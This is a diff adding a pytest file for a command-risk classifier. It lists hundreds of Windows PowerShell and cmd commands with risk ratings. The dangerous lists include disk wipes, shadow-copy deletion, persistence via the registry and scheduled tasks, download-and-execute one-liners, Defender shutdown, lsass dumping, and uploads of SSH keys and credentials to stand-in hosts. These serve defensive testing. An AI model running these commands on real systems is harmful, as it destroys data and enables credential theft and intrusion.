@@ -1,0 +1,594 @@
+"""Windows commands (PowerShell, pwsh and cmd.exe), rated by what they do on any platform.
+
+Written from the dangers themselves: whole trees deleted (drive roots, the user's profile, the
+system folder), disks wiped, recovery points destroyed, the registry and startup changed for
+persistence, code fetched and run, protections switched off, accounts added, logs cleared, the
+machine stopped, system processes killed, permissions opened, secrets sent away and system files
+overwritten. Each near miss uses the same tools for a read-only, dry-run or narrow job and must
+stay at or below its ceiling.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.safety_table import CRITICAL, HIGH, MODERATE, SAFE, RiskLevel, reaches, stays_within
+
+TREES_DELETED: list[tuple[str, RiskLevel]] = [
+    ("Remove-Item -Recurse -Force C:\\", CRITICAL),
+    ("Remove-Item -Path C:\\* -Recurse -Force", CRITICAL),
+    ("Remove-Item C:\\Windows -Recurse -Force", CRITICAL),
+    ("Remove-Item -LiteralPath 'C:\\Users' -Recurse -Force", CRITICAL),
+    ('Remove-Item "C:\\Program Files" -Recurse -Force', CRITICAL),
+    ("Remove-Item -Recurse -Force $env:USERPROFILE", CRITICAL),
+    ("Remove-Item -Path $env:USERPROFILE\\* -Recurse -Force", CRITICAL),
+    ("Remove-Item $HOME -Recurse -Force", CRITICAL),
+    ("Remove-Item ~\\* -Recurse -Force", CRITICAL),
+    ("Remove-Item $env:SystemRoot -Recurse -Force", CRITICAL),
+    ("Remove-Item ${env:ProgramFiles} -Recurse -Force", CRITICAL),
+    ("Remove-Item C:\\Windows\\System32\\drivers -Recurse -Force", CRITICAL),
+    ("Remove-Item D:\\* -Recurse -Force", CRITICAL),
+    ("Remove-Item -Recurse -Force E:\\", CRITICAL),
+    ("ri -r -fo $HOME", CRITICAL),
+    ("rm -r -fo C:\\Windows", CRITICAL),
+    ("rm -Recurse -Force C:\\Users\\*", CRITICAL),
+    ("del -Recurse -Force $env:USERPROFILE", CRITICAL),
+    ("Remove-Item $env:USERPROFILE\\Documents -Recurse -Force", HIGH),
+    ('Remove-Item "$env:APPDATA" -Recurse -Force', HIGH),
+    ("rd /s /q C:\\", CRITICAL),
+    ("rmdir /s /q C:\\Windows", CRITICAL),
+    ('rmdir /s /q "%USERPROFILE%"', CRITICAL),
+    ("rd /S /Q C:\\Users", CRITICAL),
+    ('rd /s /q "C:\\Program Files"', CRITICAL),
+    ("del /f /s /q C:\\*.*", CRITICAL),
+    ("del /f /s /q C:\\*", CRITICAL),
+    ("erase /f /s /q %SystemRoot%\\System32", CRITICAL),
+    ('del /s /q "%USERPROFILE%\\*"', CRITICAL),
+    ("del /s /q %USERPROFILE%\\Documents\\*", HIGH),
+    ("rd /s /q D:\\", CRITICAL),
+    ('cmd /c "rd /s /q C:\\Users"', CRITICAL),
+    ("cmd.exe /c rmdir /s /q %windir%", CRITICAL),
+    ('powershell -Command "Remove-Item -Recurse -Force C:\\"', CRITICAL),
+    ("pwsh -c 'Remove-Item -Recurse -Force $HOME'", CRITICAL),
+    ('powershell.exe -NoProfile -Command "rm -r -fo $env:USERPROFILE"', CRITICAL),
+    ("Get-ChildItem -Path C:\\Users -Recurse | Remove-Item -Force -Recurse", CRITICAL),
+    ("Get-ChildItem C:\\ -Recurse -Force | Remove-Item -Recurse -Force", CRITICAL),
+    ("gci $env:USERPROFILE -Recurse -Force | ri -Force -Recurse", CRITICAL),
+    ("ls C:\\Windows | rm -r -fo", CRITICAL),
+    ("Get-ChildItem C:\\ -Include *.docx -Recurse | Remove-Item -Force", HIGH),
+    ("Set-Location C:\\; Remove-Item * -Recurse -Force", CRITICAL),
+    ("cd $HOME; rm -r -fo *", CRITICAL),
+    ('for /r C:\\ %f in (*) do del /f /q "%f"', CRITICAL),
+]
+
+DISKS_WIPED: list[tuple[str, RiskLevel]] = [
+    ("format C: /q /y", CRITICAL),
+    ("format D: /fs:NTFS /p:1", CRITICAL),
+    ('cmd /c "format E: /q /y"', CRITICAL),
+    ("Format-Volume -DriveLetter C -FileSystem NTFS -Force", CRITICAL),
+    ("Format-Volume -DriveLetter D -Confirm:$false", CRITICAL),
+    ("Clear-Disk -Number 0 -RemoveData -Confirm:$false", CRITICAL),
+    ("Clear-Disk -Number 1 -RemoveData -RemoveOEM -Confirm:$false", CRITICAL),
+    ("Get-Disk | Clear-Disk -RemoveData -Confirm:$false", CRITICAL),
+    ("Remove-Partition -DriveLetter D -Confirm:$false", CRITICAL),
+    ("Get-Partition | Remove-Partition -Confirm:$false", CRITICAL),
+    ("echo clean | diskpart", CRITICAL),
+    ("(echo select disk 0 & echo clean) | diskpart", CRITICAL),
+    ('"select disk 1`nclean all" | diskpart', CRITICAL),
+    ("diskpart /s C:\\wipe.txt", HIGH),
+    ("Initialize-Disk -Number 1 -PartitionStyle GPT", HIGH),
+    ("cipher /w:C:\\", HIGH),
+    ("cipher /w:D", HIGH),
+]
+
+RECOVERY_DESTROYED: list[tuple[str, RiskLevel]] = [
+    ("vssadmin delete shadows /all /quiet", CRITICAL),
+    ("vssadmin.exe Delete Shadows /All /Quiet", CRITICAL),
+    ("wmic shadowcopy delete", CRITICAL),
+    ("wmic.exe shadowcopy delete /nointeractive", CRITICAL),
+    ("Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }", CRITICAL),
+    ("Get-CimInstance Win32_ShadowCopy | Remove-CimInstance", CRITICAL),
+    ("vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB", HIGH),
+    ("wbadmin delete catalog -quiet", CRITICAL),
+    ("wbadmin delete systemstatebackup -keepversions:0", CRITICAL),
+    ("bcdedit /set {default} recoveryenabled No", HIGH),
+    ("bcdedit /set {default} bootstatuspolicy ignoreallfailures", HIGH),
+    ("bcdedit.exe /set {current} recoveryenabled no", HIGH),
+    ("bcdedit /delete {current}", CRITICAL),
+    ("reagentc /disable", HIGH),
+]
+
+REGISTRY_AND_STARTUP: list[tuple[str, RiskLevel]] = [
+    ("reg delete HKLM\\SOFTWARE /f", CRITICAL),
+    ('reg delete "HKLM\\SYSTEM\\CurrentControlSet\\Services" /f', CRITICAL),
+    ("reg delete HKLM\\SYSTEM\\CurrentControlSet /f", CRITICAL),
+    ("Remove-Item -Path HKLM:\\SOFTWARE\\Microsoft -Recurse -Force", CRITICAL),
+    ("Remove-Item HKCU:\\Software -Recurse -Force", HIGH),
+    ('reg delete "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /f', HIGH),
+    ("reg delete HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /va /f", MODERATE),
+    (
+        "Remove-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' "
+        "-Name SecurityHealth",
+        MODERATE,
+    ),
+    (
+        'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ '
+        '/d "C:\\Users\\Public\\upd.exe" /f',
+        HIGH,
+    ),
+    (
+        'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce" /v x '
+        '/d "powershell -w hidden -File C:\\Users\\Public\\a.ps1" /f',
+        HIGH,
+    ),
+    (
+        "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' "
+        "-Name Updater -Value 'powershell -w hidden -File C:\\Users\\Public\\a.ps1'",
+        HIGH,
+    ),
+    (
+        "New-ItemProperty -Path HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce "
+        "-Name Setup -Value C:\\Temp\\payload.exe -PropertyType String",
+        HIGH,
+    ),
+    (
+        'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware '
+        "/t REG_DWORD /d 1 /f",
+        HIGH,
+    ),
+    (
+        "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System "
+        "/v EnableLUA /t REG_DWORD /d 0 /f",
+        HIGH,
+    ),
+    (
+        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" '
+        "/v fDenyTSConnections /t REG_DWORD /d 0 /f",
+        HIGH,
+    ),
+    (
+        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution '
+        'Options\\sethc.exe" /v Debugger /t REG_SZ /d "C:\\Windows\\System32\\cmd.exe" /f',
+        HIGH,
+    ),
+    (
+        "Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders"
+        "\\WDigest' -Name UseLogonCredential -Value 1",
+        HIGH,
+    ),
+]
+
+TASKS_AND_SERVICES: list[tuple[str, RiskLevel]] = [
+    (
+        'schtasks /create /tn "Updater" /tr "powershell -w hidden -enc SQBFAFgA" '
+        "/sc onlogon /ru SYSTEM",
+        HIGH,
+    ),
+    (
+        "schtasks /create /sc minute /mo 5 /tn sync /tr C:\\Users\\Public\\sync.exe /ru SYSTEM /f",
+        HIGH,
+    ),
+    ("schtasks /create /tn backup /tr C:\\tools\\backup.bat /sc daily", MODERATE),
+    ("schtasks /delete /tn * /f", HIGH),
+    (
+        'schtasks /change /tn "\\Microsoft\\Windows\\Windows Defender\\Windows Defender '
+        'Scheduled Scan" /disable',
+        HIGH,
+    ),
+    (
+        "Register-ScheduledTask -TaskName Upd -Action (New-ScheduledTaskAction -Execute "
+        "powershell.exe -Argument '-w hidden -c iex(irm http://203.0.113.7/a)') -Trigger "
+        "(New-ScheduledTaskTrigger -AtLogOn) -RunLevel Highest",
+        HIGH,
+    ),
+    (
+        "Register-ScheduledTask -TaskName Nightly -Action (New-ScheduledTaskAction -Execute "
+        "C:\\tools\\job.exe) -Trigger (New-ScheduledTaskTrigger -Daily -At 3am)",
+        MODERATE,
+    ),
+    ("Unregister-ScheduledTask -TaskName * -Confirm:$false", HIGH),
+    (
+        'New-Service -Name WinUpd -BinaryPathName "C:\\Users\\Public\\svc.exe" '
+        "-StartupType Automatic",
+        HIGH,
+    ),
+    ('sc.exe create evil binPath= "C:\\Temp\\x.exe" start= auto', HIGH),
+    ("sc create updsvc binpath= C:\\Users\\Public\\u.exe", HIGH),
+    ("sc config WinDefend start= disabled", HIGH),
+    ("sc.exe config EventLog start= disabled", HIGH),
+    ("sc stop WinDefend", HIGH),
+    ("sc delete WinDefend", HIGH),
+    ("sc stop EventLog", HIGH),
+    ("net stop mpssvc", HIGH),
+    ("Stop-Service -Name WinDefend -Force", HIGH),
+    ("Set-Service -Name EventLog -StartupType Disabled", HIGH),
+    ("Get-Service WinDefend | Stop-Service -Force", HIGH),
+]
+
+FETCHED_AND_RUN: list[tuple[str, RiskLevel]] = [
+    ("iex (iwr https://x.example/a.ps1 -UseBasicParsing)", HIGH),
+    ("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/p.ps1')", HIGH),
+    ("irm https://get.example.com/install.ps1 | iex", HIGH),
+    ("Invoke-RestMethod https://get.example.com/install.ps1 | Invoke-Expression", HIGH),
+    ("Invoke-Expression (Invoke-WebRequest -Uri http://203.0.113.5/a.ps1).Content", HIGH),
+    (
+        "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString("
+        "'http://10.0.0.5/p.ps1')\"",
+        HIGH,
+    ),
+    (
+        "powershell.exe -ExecutionPolicy Bypass -c \"iex ((New-Object System.Net.WebClient)"
+        ".DownloadString('https://x.example/i.ps1'))\"",
+        HIGH,
+    ),
+    ("powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", HIGH),
+    ("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", HIGH),
+    ("pwsh -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", HIGH),
+    (
+        "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("
+        "'SQBFAFgAIAAoAE4AZQB3AC0A')))",
+        HIGH,
+    ),
+    (
+        "$c = [System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($b)); "
+        "Invoke-Expression $c",
+        HIGH,
+    ),
+    (
+        "Start-BitsTransfer -Source http://203.0.113.5/a.exe -Destination $env:TEMP\\a.exe; "
+        "Start-Process $env:TEMP\\a.exe",
+        HIGH,
+    ),
+    (
+        "certutil -urlcache -split -f http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe && "
+        "C:\\Users\\Public\\a.exe",
+        HIGH,
+    ),
+    ("certutil.exe -urlcache -f http://x.example/p.exe p.exe & p.exe", HIGH),
+    (
+        "bitsadmin /transfer j /download /priority high http://x.example/a.exe C:\\t\\a.exe "
+        "&& C:\\t\\a.exe",
+        HIGH,
+    ),
+    ("iwr http://203.0.113.5/a.exe -OutFile a.exe; .\\a.exe", HIGH),
+    ("Invoke-WebRequest http://x.example/s.exe -OutFile $env:TEMP\\s.exe; & $env:TEMP\\s.exe", HIGH),
+    ("msiexec /i http://x.example/a.msi /qn", HIGH),
+    ("mshta http://x.example/a.hta", HIGH),
+    ('mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")', HIGH),
+    ("regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll", HIGH),
+    (
+        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'
+        'GetObject("script:http://x.example/a.sct")',
+        HIGH,
+    ),
+]
+
+PROTECTIONS_OFF: list[tuple[str, RiskLevel]] = [
+    ("Set-ExecutionPolicy Unrestricted", HIGH),
+    ("Set-ExecutionPolicy Bypass -Scope LocalMachine -Force", HIGH),
+    ("Set-ExecutionPolicy -ExecutionPolicy Unrestricted -Force", HIGH),
+    ("Set-ExecutionPolicy Bypass -Scope CurrentUser -Force", HIGH),
+    ("Set-MpPreference -DisableRealtimeMonitoring $true", HIGH),
+    ("Set-MpPreference -DisableIOAVProtection $true -DisableBehaviorMonitoring $true", HIGH),
+    ('powershell -c "Set-MpPreference -DisableRealtimeMonitoring 1"', HIGH),
+    ("Add-MpPreference -ExclusionPath C:\\", HIGH),
+    ("Add-MpPreference -ExclusionPath $env:USERPROFILE", HIGH),
+    ("Add-MpPreference -ExclusionExtension exe", HIGH),
+    ("Add-MpPreference -ExclusionProcess powershell.exe", HIGH),
+    ('"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All', HIGH),
+    ("netsh advfirewall set allprofiles state off", HIGH),
+    ("netsh advfirewall set currentprofile state off", HIGH),
+    ("netsh firewall set opmode disable", HIGH),
+    ("Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False", HIGH),
+    ("New-NetFirewallRule -DisplayName any -Direction Inbound -Action Allow -Protocol Any", HIGH),
+    ("New-NetFirewallRule -DisplayName open -Direction Inbound -Action Allow", HIGH),
+    (
+        "netsh advfirewall firewall add rule name=all dir=in action=allow protocol=any",
+        HIGH,
+    ),
+    ("auditpol /clear /y", HIGH),
+    ("wevtutil sl Security /e:false", HIGH),
+    ("fsutil usn deletejournal /d C:", HIGH),
+]
+
+ACCOUNTS_ADDED: list[tuple[str, RiskLevel]] = [
+    ("net user hacker P@ssw0rd! /add", HIGH),
+    ("net localgroup administrators hacker /add", HIGH),
+    ("net user hacker P@ssw0rd! /add && net localgroup administrators hacker /add", HIGH),
+    ('net localgroup "Remote Desktop Users" hacker /add', HIGH),
+    (
+        "New-LocalUser -Name svc -Password (ConvertTo-SecureString 'P@ss1' -AsPlainText -Force);"
+        " Add-LocalGroupMember -Group Administrators -Member svc",
+        HIGH,
+    ),
+    ("Add-LocalGroupMember -Group Administrators -Member bob", HIGH),
+    ("Enable-LocalUser -Name Administrator", HIGH),
+    ("net user Administrator /active:yes", HIGH),
+    ("net user Administrator NewP@ss1", HIGH),
+    ("Remove-LocalUser -Name bob", HIGH),
+    ("net user bob /delete", HIGH),
+]
+
+TRACKS_HIDDEN: list[tuple[str, RiskLevel]] = [
+    ("wevtutil cl Security", CRITICAL),
+    ("wevtutil cl System", CRITICAL),
+    ("wevtutil.exe clear-log Application", CRITICAL),
+    ('wevtutil el | ForEach-Object { wevtutil cl "$_" }', CRITICAL),
+    ("for /F \"tokens=*\" %1 in ('wevtutil.exe el') DO wevtutil.exe cl \"%1\"", CRITICAL),
+    ("Clear-EventLog -LogName Application,Security,System", CRITICAL),
+    ("Clear-EventLog Security", CRITICAL),
+    ("Get-EventLog -List | ForEach-Object { Clear-EventLog $_.Log }", CRITICAL),
+    ("Remove-Item C:\\Windows\\System32\\winevt\\Logs\\* -Force", CRITICAL),
+    ("Limit-EventLog -LogName Security -MaximumSize 64KB; Clear-EventLog Security", CRITICAL),
+]
+
+MACHINE_STOPPED: list[tuple[str, RiskLevel]] = [
+    ("Stop-Computer -Force", HIGH),
+    ("Restart-Computer -Force", HIGH),
+    ("Stop-Computer -ComputerName srv01,srv02 -Force", HIGH),
+    ("shutdown /s /f /t 0", HIGH),
+    ("shutdown -r -f -t 0", HIGH),
+    ("shutdown /p", HIGH),
+    ("taskkill /f /im *", HIGH),
+    ("taskkill /f /im csrss.exe", CRITICAL),
+    ("taskkill /F /IM lsass.exe", CRITICAL),
+    ("taskkill /f /im winlogon.exe", CRITICAL),
+    ("taskkill /f /im wininit.exe", CRITICAL),
+    ("Stop-Process -Name svchost -Force", CRITICAL),
+    ("Stop-Process -Name csrss -Force", CRITICAL),
+    ("Get-Process | Stop-Process -Force", CRITICAL),
+    ("Get-Process lsass | Stop-Process -Force", CRITICAL),
+    ("taskkill /f /im MsMpEng.exe", HIGH),
+]
+
+PERMISSIONS_OPENED: list[tuple[str, RiskLevel]] = [
+    ("icacls C:\\ /grant Everyone:F /t /c /q", CRITICAL),
+    ('icacls "C:\\Windows\\System32" /grant Everyone:(OI)(CI)F /T', CRITICAL),
+    ("icacls C:\\Windows /grant Users:F /t", CRITICAL),
+    ("icacls C:\\Windows\\System32\\config\\SAM /grant Users:R", HIGH),
+    ("takeown /f C:\\Windows\\System32 /r /d y", HIGH),
+    ("takeown /f C:\\ /r /d y", HIGH),
+    ("icacls C:\\Windows /setowner Everyone /t", HIGH),
+    ("attrib -s -h -r C:\\Windows\\System32\\*.* /s /d", HIGH),
+    ("attrib -h -s -r C:\\* /s /d", HIGH),
+]
+
+SECRETS_SENT: list[tuple[str, RiskLevel]] = [
+    (
+        "Compress-Archive -Path $env:USERPROFILE\\.ssh -DestinationPath $env:TEMP\\k.zip; "
+        "Invoke-WebRequest -Uri http://203.0.113.5/up -Method Post -InFile $env:TEMP\\k.zip",
+        CRITICAL,
+    ),
+    (
+        "Invoke-RestMethod -Uri https://x.example/upload -Method Post "
+        "-InFile $env:USERPROFILE\\.aws\\credentials",
+        CRITICAL,
+    ),
+    (
+        "iwr -Uri http://203.0.113.5/c -Method POST "
+        "-Body (Get-Content $env:USERPROFILE\\.ssh\\id_rsa -Raw)",
+        CRITICAL,
+    ),
+    (
+        "(New-Object Net.WebClient).UploadFile('http://203.0.113.5/u', "
+        "\"$env:USERPROFILE\\.ssh\\id_ed25519\")",
+        CRITICAL,
+    ),
+    ('curl.exe -F "f=@%USERPROFILE%\\.ssh\\id_rsa" http://203.0.113.5/u', CRITICAL),
+    ("Copy-Item $env:USERPROFILE\\.ssh\\id_rsa \\\\10.0.0.9\\drop\\", HIGH),
+    ("copy %USERPROFILE%\\.aws\\credentials \\\\attacker\\share\\", HIGH),
+    (
+        'Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data" '
+        "\\\\host\\c$\\temp\\",
+        HIGH,
+    ),
+    ("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full", CRITICAL),
+    (
+        "rundll32 comsvcs.dll MiniDump (Get-Process lsass).Id C:\\t\\l.dmp full",
+        CRITICAL,
+    ),
+    ("procdump.exe -accepteula -ma lsass.exe lsass.dmp", CRITICAL),
+    ('mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', CRITICAL),
+    ("reg save HKLM\\SAM C:\\Temp\\sam.save", HIGH),
+    ("reg save HKLM\\SAM sam.save && reg save HKLM\\SYSTEM system.save", HIGH),
+]
+
+MIRRORED_AND_OVERWRITTEN: list[tuple[str, RiskLevel]] = [
+    ("robocopy C:\\empty C:\\Users\\bob /MIR", CRITICAL),
+    ('robocopy C:\\empty "%USERPROFILE%" /mir', CRITICAL),
+    ("robocopy C:\\empty D:\\ /MIR", CRITICAL),
+    ("robocopy C:\\empty C:\\Windows /purge", CRITICAL),
+    ("robocopy .\\empty $env:USERPROFILE\\Documents /MIR /R:0", HIGH),
+    (
+        "fsutil file setzerodata offset=0 length=1048576 C:\\Windows\\System32\\config\\SYSTEM",
+        CRITICAL,
+    ),
+    (
+        "fsutil file setzerodata offset=0 length=100000 C:\\Users\\bob\\Documents\\thesis.docx",
+        HIGH,
+    ),
+    ('Set-Content -Path C:\\Windows\\System32\\drivers\\etc\\hosts -Value ""', HIGH),
+    ("Clear-Content C:\\Windows\\System32\\drivers\\etc\\hosts", HIGH),
+    ('"" | Out-File C:\\Windows\\System32\\ntoskrnl.exe', CRITICAL),
+    ("Out-File -FilePath C:\\Windows\\System32\\config\\SAM -InputObject x", CRITICAL),
+    ('Set-Content C:\\bootmgr ""', CRITICAL),
+    ("echo. > C:\\Windows\\System32\\hal.dll", CRITICAL),
+    ("type nul > %SystemRoot%\\System32\\winload.exe", CRITICAL),
+    (
+        "Add-Content C:\\Windows\\System32\\drivers\\etc\\hosts '203.0.113.5 "
+        "login.microsoftonline.com'",
+        HIGH,
+    ),
+    ("copy /y nul C:\\Windows\\System32\\drivers\\etc\\hosts", HIGH),
+]
+
+DANGEROUS = (
+    TREES_DELETED
+    + DISKS_WIPED
+    + RECOVERY_DESTROYED
+    + REGISTRY_AND_STARTUP
+    + TASKS_AND_SERVICES
+    + FETCHED_AND_RUN
+    + PROTECTIONS_OFF
+    + ACCOUNTS_ADDED
+    + TRACKS_HIDDEN
+    + MACHINE_STOPPED
+    + PERMISSIONS_OPENED
+    + SECRETS_SENT
+    + MIRRORED_AND_OVERWRITTEN
+)
+
+BENIGN: list[tuple[str, RiskLevel]] = [
+    # listings and reads
+    ("Get-ChildItem C:\\ -Recurse", SAFE),
+    ("gci -Force $env:USERPROFILE", SAFE),
+    ("Get-ChildItem -Path C:\\Windows -Filter *.log -Recurse", SAFE),
+    ("dir /s C:\\Users\\bob\\Documents", SAFE),
+    ("dir /a /s", SAFE),
+    ("Get-Process", SAFE),
+    ("Get-Process lsass", SAFE),
+    ("Get-Service WinDefend", SAFE),
+    ("Get-Service | Where-Object Status -eq Running", SAFE),
+    ("tasklist", SAFE),
+    ('tasklist /svc /fi "imagename eq svchost.exe"', SAFE),
+    ("Test-Path C:\\Windows\\System32", SAFE),
+    ("Test-Path $env:USERPROFILE\\.ssh\\id_rsa", SAFE),
+    ("Get-Content C:\\Windows\\System32\\drivers\\etc\\hosts", SAFE),
+    ("type C:\\Windows\\System32\\drivers\\etc\\hosts", SAFE),
+    ("Get-Content $env:USERPROFILE\\.ssh\\id_rsa.pub", SAFE),
+    ("Select-String -Path C:\\Windows\\Logs\\*.log -Pattern error", SAFE),
+    ("Get-Process | Format-Table -AutoSize", SAFE),
+    ("Get-Service | Format-List Name,Status", SAFE),
+    ("Format-Hex .\\file.bin", SAFE),
+    ("systeminfo", SAFE),
+    ("Get-ComputerInfo", SAFE),
+    ("Get-HotFix", SAFE),
+    ("ipconfig /all", SAFE),
+    ("netstat -ano", SAFE),
+    ("Test-NetConnection example.com -Port 443", SAFE),
+    ("Get-NetTCPConnection -State Listen", SAFE),
+    ("whoami /priv", SAFE),
+    # the same tools, read-only
+    ("Get-ExecutionPolicy", SAFE),
+    ("Get-ExecutionPolicy -List", SAFE),
+    ("netsh advfirewall show allprofiles", SAFE),
+    ("netsh advfirewall firewall show rule name=all", SAFE),
+    ("Get-NetFirewallProfile", SAFE),
+    ("Get-NetFirewallRule -Enabled True", SAFE),
+    ("reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", SAFE),
+    ('reg query "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"', SAFE),
+    ("Get-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run'", SAFE),
+    ("schtasks /query /fo LIST /v", SAFE),
+    ("Get-ScheduledTask | Where-Object State -eq Ready", SAFE),
+    ("Get-ScheduledTask -TaskPath \\Microsoft\\Windows\\Defender\\", SAFE),
+    ("wevtutil qe Security /c:10 /rd:true /f:text", SAFE),
+    ("wevtutil el", SAFE),
+    ("wevtutil gli Security", SAFE),
+    ("Get-EventLog -LogName System -Newest 20", SAFE),
+    ("Get-WinEvent -LogName Security -MaxEvents 50", SAFE),
+    ("auditpol /get /category:*", SAFE),
+    ("icacls C:\\Users\\bob\\file.txt", SAFE),
+    ("icacls C:\\Windows\\System32\\config\\SAM", SAFE),
+    ("Get-Acl C:\\Windows | Format-List", SAFE),
+    ("attrib .\\file.txt", SAFE),
+    ("Get-MpComputerStatus", SAFE),
+    ("Get-MpPreference", SAFE),
+    ("Get-MpThreatDetection", SAFE),
+    ("vssadmin list shadows", SAFE),
+    ("vssadmin list shadowstorage", SAFE),
+    ("wmic shadowcopy list brief", SAFE),
+    ("Get-CimInstance Win32_ShadowCopy", SAFE),
+    ("wbadmin get versions", SAFE),
+    ("bcdedit /enum", SAFE),
+    ("bcdedit /enum all", SAFE),
+    ("echo list disk | diskpart", SAFE),
+    ("Get-Disk", SAFE),
+    ("Get-Volume", SAFE),
+    ("Get-Partition", SAFE),
+    ("fsutil fsinfo drives", SAFE),
+    ("cipher", SAFE),
+    ("cipher /c .\\notes.txt", SAFE),
+    ("sc query WinDefend", SAFE),
+    ("sc qc WinDefend", SAFE),
+    ("sc.exe query type= service state= all", SAFE),
+    ("net user", SAFE),
+    ("net user bob", SAFE),
+    ("net localgroup administrators", SAFE),
+    ("Get-LocalUser", SAFE),
+    ("Get-LocalGroupMember Administrators", SAFE),
+    ("certutil -hashfile .\\setup.exe SHA256", SAFE),
+    ("Get-FileHash .\\a.iso", SAFE),
+    ("[Convert]::FromBase64String('aGVsbG8=')", SAFE),
+    ("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGVsbG8='))", SAFE),
+    ("[Convert]::ToBase64String([IO.File]::ReadAllBytes('.\\logo.png'))", SAFE),
+    ("robocopy C:\\proj D:\\bak /L /MIR", SAFE),
+    ("Remove-Item -Recurse -Force .\\old -WhatIf", SAFE),
+    # dangerous words only quoted
+    ('Write-Output "format C:"', SAFE),
+    ('echo "rd /s /q C:\\"', SAFE),
+    ("Write-Host 'Remove-Item -Recurse -Force C:\\'", SAFE),
+    # narrow, ordinary changes
+    ("Remove-Item .\\notes.txt", MODERATE),
+    ("Remove-Item -Path .\\build -Recurse -Force", MODERATE),
+    ("Remove-Item -Recurse -Force .\\bin, .\\obj", MODERATE),
+    ("Remove-Item $env:TEMP\\*.tmp -Force", MODERATE),
+    ("del /q build\\*.obj", MODERATE),
+    ("rd /s /q .\\node_modules", MODERATE),
+    ("rmdir /s /q dist", MODERATE),
+    ("Remove-Item Env:\\MY_VAR", MODERATE),
+    ("Set-ExecutionPolicy RemoteSigned -Scope CurrentUser", MODERATE),
+    ("Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass -Force", MODERATE),
+    ("powershell -ExecutionPolicy Bypass -File .\\scripts\\setup.ps1", MODERATE),
+    ("powershell -NoProfile -File .\\build.ps1", MODERATE),
+    ("reg export HKCU\\Software\\MyApp backup.reg", MODERATE),
+    ("icacls .\\app.log /grant bob:R", MODERATE),
+    ("takeown /f .\\locked.txt", MODERATE),
+    ("attrib +r .\\notes.txt", MODERATE),
+    ("attrib -h .\\config\\settings.ini", MODERATE),
+    ("robocopy C:\\Users\\bob\\Documents D:\\Backup\\Documents /E", MODERATE),
+    ("robocopy src dst /E /XO", MODERATE),
+    ("robocopy C:\\data \\\\nas\\backup\\data /E /Z", MODERATE),
+    ("Stop-Process -Id 1234", MODERATE),
+    ("Stop-Process -Name notepad", MODERATE),
+    ("Stop-Process -Name explorer -Force", MODERATE),
+    ("taskkill /pid 4321 /f", MODERATE),
+    ("taskkill /im chrome.exe /f", MODERATE),
+    ("ipconfig /flushdns", MODERATE),
+    ("cipher /e /s:C:\\Users\\bob\\Private", MODERATE),
+    ("Add-MpPreference -ExclusionPath C:\\src\\myrepo\\node_modules", MODERATE),
+    ("Update-MpSignature", MODERATE),
+    ("Start-MpScan -ScanType QuickScan", MODERATE),
+    (
+        "New-NetFirewallRule -DisplayName 'Web 8080' -Direction Inbound -LocalPort 8080 "
+        "-Protocol TCP -Action Allow",
+        MODERATE,
+    ),
+    ("Invoke-WebRequest https://example.com -OutFile page.html", MODERATE),
+    ("irm https://api.example.com/status", MODERATE),
+    (
+        "Invoke-RestMethod -Uri https://api.example.com/items -Method Post "
+        "-Body '{\"a\":1}' -ContentType application/json",
+        MODERATE,
+    ),
+    ("Compress-Archive -Path .\\src -DestinationPath .\\src.zip", MODERATE),
+    ("Expand-Archive .\\release.zip -DestinationPath .\\release", MODERATE),
+    ("Copy-Item .\\report.pdf \\\\fileserver\\shared\\reports\\", MODERATE),
+    ('Set-Content .\\out.txt "hello"', MODERATE),
+    ('"x" | Out-File .\\log.txt', MODERATE),
+    ("Clear-Content .\\debug.log", MODERATE),
+    ("schtasks /run /tn MyBackup", MODERATE),
+    ("shutdown /a", MODERATE),
+    ("Start-Process notepad.exe", MODERATE),
+    ("New-Item -ItemType Directory C:\\Users\\bob\\projects\\new", MODERATE),
+    ('findstr /s /i "password" *.config', MODERATE),
+]
+
+
+@pytest.mark.parametrize(("command", "least"), DANGEROUS)
+def test_dangerous(command: str, least: RiskLevel) -> None:
+    reaches(command, least)
+
+
